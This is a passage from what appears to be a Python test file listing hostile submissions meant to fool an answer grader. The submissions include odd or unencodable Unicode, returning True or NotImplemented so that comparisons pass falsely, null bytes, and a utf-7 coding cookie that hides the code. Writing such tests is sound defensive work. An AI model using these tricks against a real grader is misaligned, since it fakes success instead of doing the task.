            return chr(0xFF11) + chr(0x200B) + chr(0x202E) + chr(0xFEFF) + chr(0x661)
    """,
    ),
    _hostile(
        "surrogates",
        "answers with text that has no encoding",
        """
        def attack(x):
            return chr(0xD800) + chr(0xDFFF)
    """,
    ),
    _hostile(
        "no_answer",
        "returns nothing",
        """
        def attack(x):
            return None
    """,
    ),
    _hostile(
        "true",
        "returns true",
        """
        def attack(x):
            return True
    """,
    ),
    _hostile(
        "not_implemented",
        "returns what makes comparisons ask the other side",
        """
        def attack(x):
            return NotImplemented
    """,
    ),
    _hostile("null_bytes", "is no program at all", "def attack(x): return '\0'"),
    _hostile(
        "coding_cookie",
        "hides what it is in another encoding",
        """
        # -*- coding: utf-7 -*-
        def attack(x): return "+AGEAYg-"
    """,
    ),
]

HOSTILE = [*RESOURCES, *READING, *ESCAPING, *FORGING]
